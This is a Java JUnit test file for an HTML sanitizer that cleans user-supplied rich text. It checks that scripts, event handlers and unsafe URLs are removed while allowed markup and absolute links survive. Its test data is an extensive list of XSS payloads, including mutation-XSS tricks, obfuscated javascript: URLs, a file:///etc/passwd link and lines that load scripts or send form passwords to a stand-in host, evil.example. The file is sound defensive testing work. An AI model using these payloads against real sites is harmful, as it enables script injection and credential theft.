package org.handbill.widget.model;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Comment;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.jsoup.nodes.Node;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

class RichTextTest {

  private static final URI BASE = URI.create("https://network.example.org/resources");

  /** Written down once more, so that a slip in the list of the class itself is seen. */
  private static final Set<String> TAGS =
      Set.of(
          "a abbr b bdi blockquote br cite code dd del dl dt em i ins kbd li mark ol p q s small"
              .concat(" span strong sub sup time u ul")
              .split(" "));

  private static final Map<String, Set<String>> ATTRIBUTES =
      Map.of(
          "a", Set.of("href", "hreflang", "rel", "lang", "dir"),
          "abbr", Set.of("title", "lang", "dir"),
          "time", Set.of("datetime", "lang", "dir"));

  private static final Set<String> PROTOCOLS = Set.of("http", "https", "mailto", "tel");

  private static String cleaned(String html) {
    return RichText.clean(html, BASE).html();
  }

  @ParameterizedTest
  @MethodSource({"attacks", "spellingsOfJavaScript", "wrapped", "chance"})
  void nothing_but_harmless_markup_remains(String attack) {
    assertHarmless(cleaned(attack));
  }

  @ParameterizedTest
  @MethodSource({"attacks", "spellingsOfJavaScript", "wrapped", "chance"})
  void cleaning_twice_gives_the_same(String attack) {
    String once = cleaned(attack);
    assertThat(cleaned(once)).isEqualTo(once);
  }

  @ParameterizedTest
  @MethodSource({"attacks", "spellingsOfJavaScript"})
  void what_was_parsed_elsewhere_is_cleaned_as_well(String attack) {
    assertHarmless(RichText.clean(Jsoup.parse(attack, BASE.toString()).body()).html());
  }

  @ParameterizedTest
  @MethodSource({"attacks", "spellingsOfJavaScript"})
  void plain_text_stays_text_whatever_it_says(String attack) {
    Document again = Jsoup.parseBodyFragment(RichText.plain(attack).html());
    assertThat(again.body().select("*").stream().map(Element::tagName))
        .allMatch(tag -> tag.equals("body") || tag.equals("br"));
  }

  private static void assertHarmless(String html) {
    Document again = Jsoup.parseBodyFragment(html, BASE.toString());
    again.traverse(RichTextTest::assertHarmless);
    assertThat(again.head().childNodeSize()).isZero();
  }

  private static void assertHarmless(Node node, int depth) {
    assertThat(node).isNotInstanceOf(Comment.class);
    if (node instanceof Element element
        && !Set.of("#root", "html", "head", "body").contains(element.tagName())) {
      assertThat(element.tagName()).isIn(TAGS);
      Set<String> allowed = ATTRIBUTES.getOrDefault(element.tagName(), Set.of("lang", "dir"));
      for (Attribute attribute : element.attributes()) {
        assertThat(attribute.getKey()).isIn(allowed);
      }
      if (element.hasAttr("href")) {
        assertThat(
                URI.create(element.attr("href").replaceAll("[^\\x21-\\x7e]|[\"<>\\\\^`{|}]", "_"))
                    .getScheme())
            .isIn(PROTOCOLS);
      }
    }
  }

  static Stream<String> attacks() {
    return Stream.of(
        // script in every dress
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\0>alert(1)</script>",
        "<script/x>alert(1)</script>",
        "<script>/*<p>*/alert(1)",
        "</script><script>alert(1)</script>",
        // handlers
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror\t=\nalert(1)//",
        "<img/src='x'/onerror=alert(1)>",
        "<p onclick=alert(1)>x",
        "<p ONMOUSEOVER='alert(1)'>x",
        "<a href=https://a.example onfocus=alert(1) autofocus>x</a>",
        "<body onload=alert(1)>",
        "<b/onclick=alert(1)/x>y",
        "<details open ontoggle=alert(1)>x",
        "<video><source onerror=alert(1)></video>",
        "<input autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<div style=\"animation:x\" onanimationstart=alert(1)>x",
        "<p title=\"\"onclick=\"alert(1)\">x",
        "<p `onclick=alert(1)`>x",
        // elements that change how a browser reads what follows
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>y</a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
        "<svg><foreignObject><p onclick=alert(1)>x</foreignObject></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><style><!--</style><img src=x onerror=alert(1)>--></svg>",
        "<svg><title><style></title><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<style>@import'//evil.example/x.css'</style>x",
        "<style><img src=\"</style><img src=x onerror=alert(1)>\"></style>",
        "<p style=\"background:url(javascript:alert(1))\">x",
        "<p style=\"position:fixed;inset:0\">x",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
        "<noframes><p title=\"</noframes><img src onerror=alert(1)>\"></noframes>",
        "<template><script>alert(1)</script><p onclick=alert(1)>x</template>",
        "<template shadowrootmode=open><script>alert(1)</script></template>",
        "<textarea><p title=\"</textarea><img src onerror=alert(1)>\"></textarea>",
        "<title><p title=\"</title><img src onerror=alert(1)>\"></title>",
        "<plaintext><img src onerror=alert(1)>",
        "<select><option><style></select><img src onerror=alert(1)></style></option></select>",
        "<table><td><select><template><img src onerror=alert(1)></template></select></table>",
        // what loads, leads away or asks
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=//evil.example/x.swf>",
        "<applet code=x></applet>",
        "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=import href=//evil.example/x>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<form action=//evil.example><input name=password><button>Go</button></form>",
        "<form><form action=javascript:alert(1)><input type=submit formaction=javascript:alert(1)></form></form>",
        "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
        "<isindex action=javascript:alert(1) type=submit>",
        "<img src=//evil.example/pixel.gif>",
        "<audio src=//evil.example/x autoplay></audio>",
        "<q cite=javascript:alert(1)>x</q>",
        "<blockquote cite=javascript:alert(1)>x</blockquote>",
        "<del cite=javascript:alert(1)>x</del>",
        "<a href=https://a.example ping=//evil.example>x</a>",
        "<a href=https://a.example target=_blank rel=opener>x</a>",
        "<a href=https://a.example download=x.exe>x</a>",
        "<portal src=//evil.example></portal>",
        // comments and other constructs left open
        "<!-- <img src=x onerror=alert(1)> --><p>x",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--x--!><img src=x onerror=alert(1)>",
        "<!-- never closed <script>alert(1)</script>",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>",
        "<?xml version=\"1.0\"?><?php echo 1?><p>x",
        "<!DOCTYPE html SYSTEM \"//evil.example\"><p>x",
        "<p title=\"never closed><script>alert(1)</script>",
        "<a href=\"https://a.example",
        "<<script>alert(1)//<</script>",
        "<p/<script>alert(1)</script>",
        "<%00script>alert(1)</%00script>",
        // reaching for the page around, without any script
        "<a id=location href=https://a.example>x</a>",
        "<a name=cookie class=admin part=button slot=x>x</a>",
        "<p id=hb-t>x</p><form name=body></form>",
        "<p is=x-evil>x</p><x-evil>y</x-evil><handbill-widget widget=x></handbill-widget>",
        "<span data-handbill=\"x\" data-x=y>z</span>",
        "<p contenteditable=true tabindex=1 accesskey=x draggable=true hidden>x",
        "<p xmlns:x=\"http://www.w3.org/1999/xhtml\"><x:script>alert(1)</x:script>",
        // entities that come to life when read twice
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
        "<p>&#60;script&#62;alert(1)&#60;/script&#62;",
        "<a href=\"&quot;onclick=alert(1)//\">x</a>",
        "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
        "<time datetime='\" onclick=alert(1) x=\"'>x</time>",
        "<p lang='\" onclick=alert(1) x=\"' dir='\"><script>'>x</p>");
  }

  static Stream<String> spellingsOfJavaScript() {
    return Stream.of(
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            " javascript:alert(1)",
            "\tjava\nscript:alert(1)",
            "jav&#x09;ascript:alert(1)",
            "jav&#10;ascript:alert(1)",
            "jav&Tab;ascript:alert(1)",
            "java&NewLine;script:alert(1)",
            "javascript&colon;alert(1)",
            "javascript&#58;alert(1)",
            "javascript&#x0003A;alert(1)",
            "&#106;&#97;vascript:alert(1)",
            "&#0000106avascript:alert(1)",
            "&#x1;javascript:alert(1)",
            "\u0001javascript:alert(1)",
            "\u00a0javascript:alert(1)",
            "\u2028javascript:alert(1)",
            "java\0script:alert(1)",
            "java\u00adscript:alert(1)",
            "javascript://https://a.example/%0aalert(1)",
            "javascript:\\u0061lert(1)",
            "jAvAsCrIpT&NewLine;:alert(1)",
            "vbscript:msgbox(1)",
            "livescript:x",
            "data:text/html,<script>alert(1)</script>",
            "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "data&colon;text/html,x",
            "view-source:javascript:alert(1)",
            "feed:javascript:alert(1)",
            "jar:javascript:alert(1)!/",
            "blob:https://a.example/x",
            "file:///etc/passwd",
            "filesystem:https://a.example/x",
            "about:blank",
            "intent://x#Intent;end",
            "x-javascript:alert(1)",
            "https&#58;javascript:alert(1)",
            "//evil.example/x",
            "\\\\evil.example/x",
            "http:javascript:alert(1)",
            ":javascript:alert(1)",
            "https://",
            "https:///x")
        .map(url -> "<a href=\"" + url + "\">x</a>");
  }

  /** The same attacks where a browser is already reading something else. */
  static Stream<String> wrapped() {
    List<String> around =
        List.of(
            "<table><tr><td>%s</td></tr></table>",
            "<svg><desc>%s</desc></svg>",
            "<math><mtext>%s</mtext></math>",
            "<select>%s</select>",
            "<p><b><i>%s</p>",
            "<a href=https://a.example>%s</a>");
    return attacks().flatMap(attack -> around.stream().map(frame -> frame.replace("%s", attack)));
  }

  /** A thousand heaps of the pieces that attacks are made of. */
  static Stream<String> chance() {
    List<String> pieces =
        List.of(
            ("<p>,</p>,<div>,</div>,<a href=1>,<a href=javascript:x>,</a>,<table>,<tr>,<td>,</table>"
                    + ",<b>,</b>,<ul>,<li>,</ul>,<dl>,<dt>,<dd>,<svg>,</svg>,<math>,<mtext>,<mglyph>"
                    + ",<style>,</style>,<xmp>,</xmp>,<noscript>,</noscript>,<template>,</template>"
                    + ",<select>,<option>,<form>,</form>,<textarea>,</textarea>,<title>,</title>"
                    + ",<!--,-->,<![CDATA[,]]>,text,&lt;,<img src=x onerror=alert(1)>,<button>"
                    + ",<object>,<script>,</script>,<plaintext>,<foreignObject>,<frameset>"
                    + ",<p title=\"</style><script>\">,<body onload=x>,\",',<,>,/,=")
                .split(",", -1));
    Random random = new Random(5);
    return IntStream.range(0, 1000)
        .mapToObj(
            i ->
                random
                    .ints(1 + random.nextInt(10), 0, pieces.size())
                    .mapToObj(pieces::get)
                    .collect(Collectors.joining()));
  }

  @Test
  void paragraphs_lists_emphasis_and_links_are_kept() {
    String html =
        "<p lang=\"es\" dir=\"ltr\"><strong>Uno</strong> <em>dos</em></p><ul><li>tres</li></ul>"
            + "<a href=\"https://a.example/\" hreflang=\"es\" rel=\"noopener\">x</a>"
            + "<abbr title=\"y\">z</abbr><br><time datetime=\"2026-01-02\">t</time>";
    assertThat(cleaned(html)).isEqualTo(html);
  }

  @ParameterizedTest
  @CsvSource({
    "https://a.example/x?a=1&amp;b=2#c, https://a.example/x?a=1&amp;b=2#c",
    "http://a.example/, http://a.example/",
    "mailto:help@a.example, mailto:help@a.example",
    "tel:+13125550100, tel:+13125550100",
    "../files/a.pdf, https://network.example.org/files/a.pdf",
    "/files/a.pdf, https://network.example.org/files/a.pdf",
    "//other.example/a, https://other.example/a",
    "?page=2, https://network.example.org/resources?page=2",
  })
  void a_link_is_kept_and_made_absolute(String href, String absolute) {
    assertThat(cleaned("<a href=\"" + href + "\">x</a>"))
        .isEqualTo("<a href=\"" + absolute + "\" rel=\"noopener\">x</a>");
  }

  @Test
  void a_link_that_cannot_be_followed_keeps_its_words() {
    assertThat(cleaned("See <a href=\"javascript:alert(1)\">this</a>"))
        .isEqualTo("See <a rel=\"noopener\">this</a>");
  }

  @Test
  void a_relative_link_with_nothing_to_be_relative_to_loses_its_address() {
    assertThat(RichText.clean("<a href=\"a.pdf\">x</a>", URI.create("about:blank")).html())
        .doesNotContain("href");
  }

  @Test
  void the_words_of_what_is_dropped_are_kept() {
    assertThat(cleaned("<h3>Know</h3><table><tr><td>your</td></tr></table><font>rights</font>"))
        .contains("Know", "your", "rights")
        .doesNotContain("<h3", "<t", "<font");
  }

  @Test
  void the_code_of_what_is_dropped_is_not_kept() {
    assertThat(cleaned("a<script>code()</script><style>p{}</style>b")).isEqualTo("ab");
  }

  @Test
  void what_cannot_be_seen_is_dropped_from_the_words() {
    assertThat(RichText.clean("a\0\u202eb\uD800", BASE).html()).isEqualTo("ab");
  }

  @Test
  void markup_without_words_is_nothing() {
    assertThat(RichText.clean("<p><br>&nbsp;</p>", BASE)).isEqualTo(RichText.EMPTY);
  }

  @Test
  void the_words_alone_are_on_one_line_and_not_escaped() {
    assertThat(RichText.clean("<p>a &amp; b</p>\n<p>c&lt;d</p>", BASE).text())
        .isEqualTo("a & b c<d");
  }

  @Test
  void line_breaks_of_plain_text_are_kept() {
    assertThat(RichText.plain(" a < b\r\nc & d\n").html()).isEqualTo("a &lt; b<br>c &amp; d");
  }

  @Test
  void a_page_nested_a_hundred_thousand_deep_is_cleaned_all_the_same() {
    String deep = "<b>".repeat(100_000) + "x" + "</b>".repeat(100_000);
    assertThat(RichText.clean(deep, BASE).text()).isEqualTo("x");
  }

  @Test
  void the_case_of_a_machine_s_language_changes_nothing() {
    Locale before = Locale.getDefault();
    try {
      Locale.setDefault(new Locale("tr"));
      assertHarmless(cleaned("<SCRIPT>x</SCRIPT><A HREF=\"JAVASCRIPT:x\">i</A><LI>y"));
    } finally {
      Locale.setDefault(before);
    }
  }
}
